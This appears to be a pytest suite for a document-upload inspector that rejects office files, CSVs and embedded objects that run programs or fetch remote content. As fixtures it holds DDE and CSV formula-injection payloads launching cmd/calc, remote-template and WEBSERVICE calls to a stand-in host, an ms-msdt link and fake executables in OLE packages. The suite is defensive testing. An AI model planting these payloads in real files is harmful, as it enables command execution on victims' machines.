"""An office file, a table or an object in one that runs, fetches or calls something is refused; what only links is not."""

from pathlib import Path

import pytest

from inspection.file_names import is_running_link
from inspection.formulas import is_active_formula
from tests.inspection.makers import (
    compound_bytes,
    facts_here,
    make_file,
    make_zip,
    new_pdf,
    office_members,
    pdf_bytes,
    refusal_here,
)

PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + b"\0" * 200
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODF = (
    '<d xmlns:office="urn:o" xmlns:text="urn:t" xmlns:draw="urn:d" xmlns:xlink="urn:x" xmlns:script="urn:s" '
    'xmlns:table="urn:b" xmlns:presentation="urn:presentation" xmlns:svg="urn:v">{}</d>'
)


def office(folder: Path, extension: str, members: dict[str, bytes | str]) -> Path:
    more = {n: c.encode() if isinstance(c, str) else c for n, c in members.items()}
    return make_zip(folder, office_members(extension) | more, f"a.{extension}")


def related(
    folder: Path, kind: str, target: str, extension: str = "docx", mode: str = "External"
) -> Path:
    rel = f'<Relationship Id="r" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return office(
        folder, extension, {"word/_rels/settings.xml.rels": f'<R xmlns="urn:r">{rel}</R>'}
    )


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def paragraph(content: str) -> str:
    return f'<w:d xmlns:w="urn:w"><w:p>{content}<w:r><w:t>Texto</w:t></w:r></w:p></w:d>'


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://a.example/t.dotm"),
        ("attachedTemplate", r"\\a.example\t.dotm"),
        ("attachedTemplate", "file://a.example/t.dotm"),
        ("attachedTemplate", "file:///%5C%5Ca.example/t.dotm"),
        ("oleObject", "https://a.example/x.rtf"),
        ("oleObject", "file:///C:/datos/x.xls"),
        ("image", "http://a.example/x.png"),
        ("frame", "http://a.example/x.htm"),
        ("video", "https://a.example/x.mp4"),
        ("externalLinkPath", "https://a.example/x.xlsx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id"),
        ("hyperlink", "file:///C:/Windows/System32/cmd.exe"),
    ],
)
@pytest.mark.parametrize("extension", ["docx", "xlsx", "pptx"])
def test_what_is_loaded_from_elsewhere_or_runs_is_refused(tmp_path, kind, target, extension):
    refused = refusal_here(related(tmp_path, kind, target, extension))
    assert refused.code in ("external", "active")
    assert "súbalo de nuevo" in refused.message or "suba ese archivo" in refused.message


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", r"file:///C:\Users\Ana\Plantillas\oficio.dotx"),
        ("attachedTemplate", "Normal.dotm"),
        ("externalLinkPath", "POA%202024.xlsx"),
        ("image", "file:///D:/logos/logo.png"),
        ("hyperlink", "https://municipio.ec/instalador.exe"),
        ("hyperlink", "www.municipio.com"),
        ("hyperlink", "mailto:a@municipio.ec"),
        ("hyperlink", r"..\anexos\anexo.docx"),
    ],
)
def test_links_and_local_paths_are_let_in(tmp_path, kind, target):
    assert facts_here(related(tmp_path, kind, target))["text_status"] == "ok"


@pytest.mark.parametrize(
    "content",
    [
        field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'),
        field("DD", "E excel x y"),
        field(field("QUOTE 68 68 69"), " cmd x"),
        '<w:fldSimple w:instr=" DDEAUTO cmd x "/>',
        field('INCLUDEPICTURE "http://a.example/x.png" \\d'),
        field(r'INCLUDETEXT "\\\\a.example\\x.docx"'),
        '<w:pict><w:imagedata src="http://a.example/x.png"/></w:pict>',
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "word/footnotes.xml"])
def test_fields_and_drawings_that_call_or_fetch_are_refused(tmp_path, content, part):
    assert refusal_here(office(tmp_path, "docx", {part: paragraph(content)})).code in (
        "active",
        "external",
    )


@pytest.mark.parametrize(
    "code",
    [
        "PAGE",
        'HYPERLINK "https://a.ec"',
        r'INCLUDEPICTURE "C:\\Users\\Ana\\x.png"',
        "ADDIN ZOTERO DDE x",
        "REF DDE",
    ],
)
def test_usual_fields_are_let_in(tmp_path, code):
    assert (
        facts_here(office(tmp_path, "docx", {"word/document.xml": paragraph(field(code))}))["notes"]
        == []
    )


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (
            "xl/externalLinks/externalLink1.xml",
            '<e><ddeLink ddeService="cmd" ddeTopic="/c calc"/></e>',
        ),
        ("xl/externalLinks/externalLink1.xml", "<x:e xmlns:x='urn:x'><x:oleLink/></x:e>"),
        ("xl/worksheets/sheet1.xml", "<s><c><f>cmd|'/c calc'!A0</f></c></s>"),
        ("xl/worksheets/sheet1.xml", "<s><c><f>cm&#100;&#124;'/c calc'!A0</f></c></s>"),
        ("xl/worksheets/sheet1.xml", '<s><c><f>_xlfn.WEBSERVICE("http://a.example")</f></c></s>'),
        ("xl/workbook.xml", "<w><definedName>cmd|'/c calc'!A0</definedName></w>"),
        ("xl/connections.xml", '<c><connection><webPr url="http://a.example"/></connection></c>'),
        ("xl/connections.xml", '<c><connection><dbPr connection="Provider=x"/></connection></c>'),
        ("xl/macrosheets/sheet1.xml", "<s/>"),
    ],
)
def test_workbooks_that_call_or_fetch_are_refused(tmp_path, part, content):
    assert refusal_here(office(tmp_path, "xlsx", {part: content})).code in (
        "active",
        "external",
        "macros",
    )


def test_usual_formulas_and_a_data_model_are_let_in(tmp_path):
    formulas = ["SUM(A1:A3)", "'Hoja|1'!A1", 'A1&amp;" uno | dos !"', '"DDE("&amp;A1']
    cells = "".join(f"<c><f>{formula}</f></c>" for formula in formulas)
    model = '<c><connection><dbPr connection="Data Model Connection"/><olapPr/></connection></c>'
    path = office(
        tmp_path,
        "xlsx",
        {"xl/worksheets/sheet1.xml": f"<s>{cells}</s>", "xl/connections.xml": model},
    )
    assert facts_here(path)["text_status"] == "ok"


def test_a_button_of_a_presentation_that_runs_a_program_is_refused(tmp_path):
    slide = '<s><c action="ppaction://program"/></s>'
    assert refusal_here(office(tmp_path, "pptx", {"ppt/slides/slide2.xml": slide})).code == "active"
    jump = '<s xmlns:a="urn:a"><a:c action="ppaction://hlinksldjump"/></s>'
    assert (
        facts_here(office(tmp_path, "pptx", {"ppt/slides/slide2.xml": jump}))["extension"] == "pptx"
    )


def package(content: bytes, name: str = "a.txt") -> bytes:
    """An OLE package's own stream, as it stands in a compound file."""
    label, size = name.encode() + b"\0", len(content).to_bytes(4, "little")
    head = b"\2\0" + label + label + b"\0\0\3\0" + len(label).to_bytes(4, "little") + label
    return (len(head) + 4 + len(content)).to_bytes(4, "little") + head + size + content


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("word/media/image1.png", PROGRAM),
        ("word/embeddings/datos.exe", b"x"),
        ("word/embeddings/a.bin", b"\x7fELF\2\1\1\0"),
        ("word/embeddings/a.xlsx", "docx with a template"),
        ("customXml/item1.xml", PROGRAM),
        ("word/media/a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
    ],
)
@pytest.mark.parametrize("extension", ["docx", "odt"])
def test_a_program_among_media_or_embedded_files_is_refused(tmp_path, member, content, extension):
    if isinstance(content, str):
        content = related(tmp_path, "attachedTemplate", "https://a.example/t.dotm").read_bytes()
    refused = refusal_here(office(tmp_path, extension, {member: content}))
    assert f"«{member.rpartition('/')[2]}»" in refused.message


@pytest.mark.parametrize(
    ("streams", "storage", "code"),
    [
        ({"\x01Ole10Native": package(PROGRAM)}, "", "executable"),
        ({"\x01Ole10Native": package(b"echo", "a.bat")}, "", "executable"),
        ({"CONTENTS": PROGRAM}, "", "executable"),
        ({"\x01Ole": b"\1\0\0\2\1\0\0\0"}, "", "external"),
        ({"dir": b"x"}, "VBA", "macros"),
    ],
    ids=["package", "script", "contents", "link", "macros"],
)
def test_an_object_that_holds_a_program_macros_or_a_link_is_refused(
    tmp_path, streams, storage, code
):
    member = {"word/embeddings/oleObject1.bin": compound_bytes(streams, storage)}
    assert refusal_here(office(tmp_path, "docx", member)).code == code


def test_an_object_that_holds_a_document_is_let_in(tmp_path):
    streams = {
        "\x01Ole": b"\1\0\0\2\0\0\0\0",
        "\x01Ole10Native": package(b"hola", "a.txt"),
        "CONTENTS": pdf_bytes(new_pdf(["Uno"])),
    }
    member = {"word/embeddings/oleObject1.bin": compound_bytes(streams)}
    assert facts_here(office(tmp_path, "docx", member))["text_status"] == "ok"


def test_pictures_and_documents_among_them_are_let_in(tmp_path):
    inner = make_zip(tmp_path, office_members("xlsx"), "b.xlsx").read_bytes()
    members = {
        "word/media/a.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0'/></svg>",
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx": inner,
        "word/embeddings/b.pdf": pdf_bytes(new_pdf(["Uno"])),
        "word/media/a.emz": b"\x1f\x8b\x08\0\0\0\0\0",
        "word/fonts/font1.odttf": b"\x01\x02" * 40,
    }
    assert facts_here(office(tmp_path, "docx", members))["text_status"] == "ok"


@pytest.mark.parametrize(
    "content",
    [
        '<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>',
        '<script:event-listener xlink:href="vnd.sun.star.script:a"/>',
        '<text:a xlink:href="vnd.sun.star.script:a"/>',
        '<text:a xlink:href="javascript:alert(1)"/>',
        "<text:execute-macro/>",
        "<draw:applet/>",
        '<draw:image xlink:href="https://a.example/x.png"/>',
        '<draw:object xlink:href="//a.example/x.odt"/>',
        '<draw:plugin xlink:href="http://a.example/x.mp4"/>',
        '<text:section-source xlink:href="file://a.example/x.odt"/>',
        '<svg:font-face-uri xlink:href="https://a.example/x.ttf"/>',
        '<office:dde-source office:dde-application="cmd"/>',
        '<presentation:event-listener presentation:action="execute"/>',
        """<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>""",
        """<table:table-cell table:formula="msoxl:=cmd|'/c calc'!A0"/>""",
    ],
)
@pytest.mark.parametrize("part", ["content.xml", "styles.xml", "Object 1/content.xml"])
def test_open_documents_that_run_or_fetch_are_refused(tmp_path, content, part):
    refused = refusal_here(office(tmp_path, "ods", {part: ODF.format(content)}))
    assert refused.code in ("active", "external", "macros")


def test_usual_open_documents_are_let_in(tmp_path):
    content = (
        '<office:scripts/><text:a xlink:href="https://a.ec"/><draw:a xlink:href="mailto:a@a.ec"/>'
        '<draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/>'
        '<presentation:event-listener presentation:action="next-page" xlink:href="#p2"/>'
        '<text:p>Hola</text:p><table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'
    )
    meta = ODF.format('<meta xlink:href="../../../Program Files/plantilla.ott"/>')
    path = office(tmp_path, "odt", {"content.xml": ODF.format(content), "meta.xml": meta})
    assert facts_here(path)["text_status"] == "ok"


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|'/c calc'!A0",
        "\"=cmd|' /C calc'!'A1'\"",
        "+cmd|'/c calc'!A0",
        "@SUM(1)*cmd|'/c calc'!A0",
        '"=DDE(""cmd"";""/c calc"";""x"")"',
        '"=WEBSERVICE(""http://a.example"")"',
        "=1+MSEXCEL|'\\..\\cmd.exe'!A0",
    ],
)
@pytest.mark.parametrize("lines", [1, 40_000])
def test_a_table_whose_formula_calls_a_program_is_refused(tmp_path, cell, lines):
    table = "nombre,monto\n" + "Ana,1\n" * lines + f"Luis,{cell}\n"
    assert refusal_here(make_file(tmp_path, "a.csv", table.encode()), name="a.csv").code == "active"


@pytest.mark.parametrize(
    "row",
    [
        "=1+1,-5",
        "=SUM(A1:A2),x",
        "-Ejemplo|¡Hola!,1",
        "a|b,c!",
        "@ana,+593 2",
        "=A1,Total | call (tel)!",
    ],
)
def test_a_table_with_usual_formulas_is_let_in(tmp_path, row):
    path = make_file(tmp_path, "a.csv", f"a,b\n{row}\n".encode())
    assert facts_here(path, "a.csv")["extension"] == "csv"


@pytest.mark.parametrize(
    "formula", ["'Image (2)'!A1", "SUM('Call (3)'!B2:B9)", "'RTD (2)'!$A$1+'It''s exec (1)'!B2"]
)
def test_a_copied_sheet_with_the_name_of_a_function_is_no_call(formula):
    assert not is_active_formula(formula)


@pytest.mark.parametrize("target", ["cmd:foo", "script:x", "view-source:http://a.example"])
def test_a_link_with_the_scheme_of_a_program_runs_something(target):
    assert is_running_link(target)
